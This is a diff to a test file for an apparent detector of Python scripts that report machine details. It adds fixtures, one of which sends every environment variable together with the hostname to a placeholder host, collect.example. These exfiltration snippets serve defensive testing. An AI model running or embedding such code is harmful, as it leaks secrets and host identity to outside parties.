@@ -62,6 +62,15 @@ testOnFacts([scriptReportsItsMachine], {
         'user = getpass.getuser()',
         'requests.post("https://forum.example/", json={"text": "host and user"})',
       ),
+      'the name that the class of a protocol greets with': python(
+        'import socket',
+        'class Client:',
+        '    def send(self, line):',
+        '        self.sock.sendall(line)',
+        '    def greet(self):',
+        '        name = socket.getfqdn() or socket.gethostbyname(socket.gethostname())',
+        '        self.send("EHLO " + name + "\\r\\n")',
+      ),
       'names of another function': python(
         'import socket, getpass, requests',
         'def local():',
@@ -103,6 +112,16 @@ test('statements are parted, and texts and comments left out, in linear time, en
   for (const text of [`"${'\\"'.repeat(60_000)}`, '"""\\'.repeat(40_000), `"""${"'''".repeat(40_000)}`])
     assert.ok(codeAlone(text).length < text.length && statementsOf(text).length > 0)
   assert.ok(performance.now() - begun < 2000)
+})
+
+test('texts with ends of lines are texts', () => {
+  const { script } = python(
+    'import os, socket, urllib.request',
+    'all = "\\n".join(f"{k}={v}" for k, v in os.environ.items())',
+    'told = "%s\\n%s" % (socket.gethostname(), all)',
+    'urllib.request.urlopen("https://collect.example/?" + told)',
+  )
+  assert.ok(hasTrait(script ?? assert.fail(), 'machine_facts_sent_together'))
 })
 
 test('a fetched file is followed to what starts it, across functions; another file that is started is not it', () => {
